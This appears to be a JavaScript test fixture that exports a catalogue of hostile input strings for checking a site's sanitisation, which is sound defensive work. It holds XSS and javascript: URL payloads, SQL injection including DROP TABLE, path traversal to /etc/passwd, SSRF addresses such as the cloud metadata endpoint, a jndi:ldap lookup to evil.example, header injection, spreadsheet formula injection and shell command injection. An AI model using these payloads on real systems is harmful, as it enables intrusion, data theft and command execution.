// Texts by which strangers attack a site, by kind. They are derived from the standards: the states of the
// HTML tokenizer, schemes and spellings of addresses (WHATWG URL), encodings, Unicode's controls and
// look-alikes, SQL and FTS5, paths, templates and includes, header lines, spreadsheets and shells.

const script = '<script>alert(1)</script>';
const image = '<img src=x onerror=alert(1)>';

// Each leaves the HTML tokenizer in another state (HTML standard, section 13.2.5).
const tokenizer = [
  '<', '</', '<!', '<?', '<!-', '<!--', '<!-->', '<!--->', '<!--x', '<!--x-', '<!--x--', '<!--x--!', '<!--x--!>',
  '<!--<!--x', '<!--<!', '<!DOCTYPE', '<!DOCTYPE html PUBLIC "', '<!DOCTYPE html SYSTEM \'', '<![CDATA[', '<![CDATA[]]',
  '<?xml-stylesheet href="x"?>', '<b', '<b ', '<b/', '<b x', '<b x ', '<b x=', '<b x="', '<b x=\'', '<b x=y', '<b x="y"z',
  '<b x="y"/', '<b x=y/>', '</b x="y">', '<b\0>', '<b\fonclick=alert(1)>', '<b/onclick=alert(1)>', '<b\nonclick\n=\nalert(1)>',
  '<b x=">" onclick=alert(1)>', '<b `onclick=alert(1)`>', '<b x=`y` onclick=alert(1)>', '<b "onclick=alert(1)>', '<b =onclick=alert(1)>',
  '<title>', '<textarea>', '<style>', '<xmp>', '<iframe>', '<noembed>', '<noframes>', '<noscript>', '<plaintext>', '<script>', '<script><!--',
  '<script><!--<script>', '<svg><style>', '<svg><![CDATA[', '<math><annotation-xml encoding="text/html">', '<select><option>',
  '<table><td>', '<frameset>', '<image>', '<isindex>', '<template>', '<b><template></b>', '</br>', '</p>', '</>', '< b>', '<3', '<b<i>',
  '&', '&#', '&#x', '&#0;', '&#x110000;', '&#xd800;', '&#128;', '&#60;script&#62;', '&lt', '&ltscript&gt', '&notit;', '&NotExists;',
  '&amp;lt;', '&#x3c;script&#x3e;', '&lbrace;&lbrace;X&rcub;&rcub;', '&Tab;&NewLine;',
].flatMap((text) => [text, `${text}${image}`]);

// Elements whose end or beginning changes how the rest is parsed.
const elements = ['textarea', 'title', 'style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'template', 'select', 'svg',
  'math', 'table', 'a', 'button', 'form', 'li', 'ol', 'article', 'section', 'head', 'body', 'html', 'details', 'object', 'dialog'];
const breakouts = elements.flatMap((name) => [`</${name}>${script}`, `<${name}>${image}</${name}>`, `<${name} autofocus onfocus=alert(1)>`]);

const handlers = ['onclick', 'onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbeforeinput', 'onpointerrawupdate', 'oncontentvisibilityautostatechange'];
const attributes = handlers.flatMap((handler) => [
  `<a href="https://example.org/" ${handler}=alert(1)>x</a>`,
  `<abbr title="x"${handler}="alert(1)">x</abbr>`,
  `<b/${handler}='alert(1)'>x</b>`,
  `https://example.org/"${handler}="alert(1)`,
]);

const schemes = ['javascript', 'vbscript', 'data', 'file', 'blob', 'filesystem', 'view-source', 'about', 'chrome', 'intent', 'jar', 'ws'];
const spellings = [
  (s) => `${s}:alert(1)`,
  (s) => `${s.toUpperCase()}:alert(1)`,
  (s) => ` \u0001${s}:alert(1)`,
  (s) => `${s.slice(0, 2)}\t${s.slice(2)}:alert(1)`,
  (s) => `${s.slice(0, 2)}\n${s.slice(2)}:alert(1)`,
  (s) => `&#${s.codePointAt(0)};${s.slice(1)}:alert(1)`,
  (s) => `&#x${s.codePointAt(0).toString(16)}${s.slice(1)}&colon;alert(1)`,
  (s) => `%${s.codePointAt(0).toString(16)}${s.slice(1)}:alert(1)`,
  (s) => `${s}&#58;//example.org/%0Aalert(1)`,
];
const addresses = schemes.flatMap((scheme) => spellings.map((spell) => spell(scheme))).flatMap((address, i) =>
  i % 3 === 0 ? [address] : i % 3 === 1 ? [`<a href="${address}">x</a>`] : [`[x](${address})`, `[x]: ${address}\n\n[x] <${address}>`]);
const hosts = ['//evil.example', '\\\\evil.example', '/\\evil.example', 'https:evil.example', 'https:///evil.example', 'http://user:pw@evil.example/',
  'http://127.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/', 'http://0x7f000001/', 'http://2130706433/', 'http://evil.example:0/',
  'http://evil.example:99999/', 'http://evil。example/', 'http://evil.example#@site.example/', 'http://xn--/', 'http://%65vil.example/', 'http://a..b/',
  'mailto:a@b.co?bcc=c@d.co', 'http://evil.example/\u202egpj.exe'];

const markdown = ['[x](<javascript:alert(1)>)', '![x](x" onerror="alert(1))', '[x](https://example.org "t\\" onclick=alert(1)")', '<https://example.org/" onclick=alert(1)>',
  '```<script>\nx\n```', '~~~ "><script>alert(1)</script>\nx\n~~~', '`<script>alert(1)</script>`', '| <script> |\n|---|\n| <img src=x onerror=alert(1)> |', '$<script>alert(1)</script>$', '$$\n</code><script>alert(1)</script>\n$$',
  '<details>\n<summary>"><script>alert(1)</script></summary>\n\nx\n\n</details>', '</details>', '<summary>', '<details open ontoggle=alert(1)>', '- [x] <script>', '# <img src=x onerror=alert(1)>',
  `${'>'.repeat(300)} x`, `${'['.repeat(300)}x${']'.repeat(300)}`, `${'*'.repeat(301)}x`, `${'`'.repeat(301)}x`, `${'- '.repeat(200)}x`, `${'|'.repeat(300)}\n${'|-'.repeat(300)}`, '[a]: <b>\n[a]: c\n[a][a][a]', '\\<script>alert(1)\\</script>'];

const unicode = ['\u202ealert\u202c', '\u2066x\u2069', '\u200bscript\u200d', 'scr\u00adipt', '\ufeff<script>', '<\u017fcript>alert(1)</\u017fcript>', '\uff1cscript\uff1ealert(1)', '\u2028alert(1)\u2029',
  '<scr\u0000ipt>', '\u0085\u00a0\u3000x', `Z${'\u0301'.repeat(500)}`, '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u{e0001}\u{e0041}', '\ufffe\uffff\u{1ffff}', '\ufdd0', '\u3164\u115f\uffa0', '\u0430dmin', 'ADMIN\u0130', '\u212aelvin',
  'a\u0338=b', '\u1e9e\ufb03', '\u{1f1e9}\u{1f1ea}\u{1f3f4}', 'x\u0600\u06ddx', '\u0e33\u0e33', '\u{10ffff}', '\u00bcscript\u00be', 'İI\u0307ıi', '\u2024\u2024/\u2024\u2024/', '\u034f\u180e', 'מה\u200f(x)\u200e'];

const encodings = ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u001b$B<script>', '~{<script>~}', '%3Cscript%3Ealert(1)%3C/script%3E', '%253Cscript%253E', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '<%00script>', '=3Cscript=3E', '=?utf-8?q?=3Cscript=3E?='];

const sql = ["'", "''", '"', '`', "\\'", "' OR 1=1 --", "' OR ''='", "1; DROP TABLE comment; --", "') UNION SELECT email FROM comment --", "'; ATTACH DATABASE '/tmp/x' AS y; --", "x' AND (SELECT load_extension('x')) --", '/* */', "'||(SELECT 1)||'",
  '$1', '?1', ':email', '@email', "\\0", '%', '_', "x' COLLATE NOCASE --", 'NULL', "X'41'", '1e999', '0x7fffffffffffffff'];
const fts = ['"', '""', '*', 'a*', '^a', 'a AND', 'OR', 'NOT a', 'NEAR(a b, 2)', 'email:ada', '{email}:a', '- a', 'a + b', '(a', 'a)', "'a'", 'a:b:c', '"a" "', 'comment MATCH a', 'ℕ*'];

const paths = ['../../../../etc/passwd', '..\\..\\afterword.toml', '/etc/passwd\0.html', '....//....//', '%2e%2e%2f', '..%c0%af', '..;/', '/proc/self/environ', 'file:///etc/passwd', 'C:\\boot.ini', '\\\\host\\share', '/afterword.db', '.htaccess', '~root', 'a/./../b',
  'CON', 'NUL.txt', 'a'.repeat(300), '-rf', '--config=/x', '|id', 'x\u0000y', '//host/a', '/..', '...'];
const templates = ['{{COMMENT}}', '{{#ROW}}{{/ROW}}', '{{>FORM}}', '{{%AUTOESCAPE context="HTML"}}', '{{TEXT:none}}', '{{!x}}', '{{=<% %>=}}', '{{', '}}', '<!--#exec cmd="id" -->', '<!--#include virtual="/x" -->', '<!--# echo var="x" -->', '<esi:include src="/x"/>', '<esi:vars>$(X)</esi:vars>',
  '<?php echo 1 ?>', '<% x %>', '${7*7}', '#{7*7}', '${jndi:ldap://evil.example/a}', '%{x}', '{% x %}', '{0}', '%s%n', '[[x]]', '<c:out value="x"/>'];
const headers = ['x\r\nBcc: evil@evil.example', 'x\nBcc: evil@evil.example', 'x\rBcc: evil@evil.example', 'x\r\n\r\n<script>', 'x\u0085Bcc: y', 'x%0d%0aSet-Cookie: a=b', 'x\r\n.\r\nMAIL FROM:<y>', '"x" <evil@evil.example>', 'x, evil@evil.example', 'x\u2028Bcc: y', '\u001b[2J\u001b]0;x\u0007', 'x\u0000y', '\u0008\u0008\u0008', `${'x'.repeat(1_200)}`, '=?utf-8?b?DQpCY2M6?='];
const words = ['null', 'undefined', 'NaN', 'true', 'false', 'None', '[object Object]', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '-1', '0', '00', '1e309', '9223372036854775808', '-9223372036854775809', '1/0', '0x10', '２', '٣', '=1+1', '=cmd|\'/C calc\'!A0', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '$(id)', '`id`', '; id', '&& id', '$IFS', '(){ :;}; id', '!!x', '# x', '---', '"a,b"', "a','b"];

export const hostileTexts = [...new Set([...tokenizer, ...breakouts, ...attributes, ...addresses, ...hosts, ...markdown, ...unicode, ...encodings,
  ...sql, ...fts, ...paths, ...templates, ...headers, ...words])];

// No valid UTF-8, so no text at all: percent-encoded for a form.
export const invalidBytes = ['%ff', '%c0%af', '%c0%80', '%e0%80%af', '%ed%a0%80', '%ed%b0%80', '%f4%90%80%80', '%f8%88%80%80%80', '%80', '%c3', '%e2%82', 'a%00b', '%fe%ff%00%3c'];
